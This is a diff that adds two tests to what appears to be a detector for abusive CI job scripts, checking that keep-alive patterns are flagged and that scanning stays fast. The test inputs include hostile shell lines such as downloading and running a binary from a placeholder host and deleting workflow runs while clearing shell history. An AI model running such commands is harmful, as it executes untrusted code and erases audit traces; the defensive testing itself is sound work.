@@ -427,3 +427,29 @@ test('there are enough of each', () => {
   assert.ok(INNOCENT.length >= 60);
   assert.ok(CONFIRMED.length + SUSPECTED.length >= 60);
 });
+
+test('a circumstance alone is not shown, and in company it weighs', () => {
+  const alone = scanJob({ scripts: ['./server & sleep 3600'] });
+  assert.deepEqual([alone.findings, alone.bits], [[], 0]);
+  const beside = scanJob({ scripts: [`${FETCHED}\n./w & sleep 3600`] });
+  assert.ok(beside.findings.some(({ rule }) => rule === 'keep-alive'));
+  assert.equal(beside.verdict, 'unchecked');
+});
+
+test('many commands of what the rules compare with one another take a bounded time', () => {
+  for (const line of [
+    './w & sleep 2; rm -f w',
+    'sleep 60',
+    'while true; do sleep 1; done',
+    'cp a b; ./b -t 2 --cpu-priority 5',
+    'timeout 350m ./w',
+    'curl -o w https://a.test/w; chmod +x w; ./w &',
+    'gh run delete 1; history -c',
+  ]) {
+    const script = `${FETCHED}\n./w &\n${`${line}\n`.repeat(3_000)}`;
+    const started = performance.now();
+    scanJob({ scripts: [script], shape: CAMPAIGN });
+    const elapsed = performance.now() - started;
+    assert.ok(elapsed < 4_000, `${elapsed} ms for ${line}`);
+  }
+});
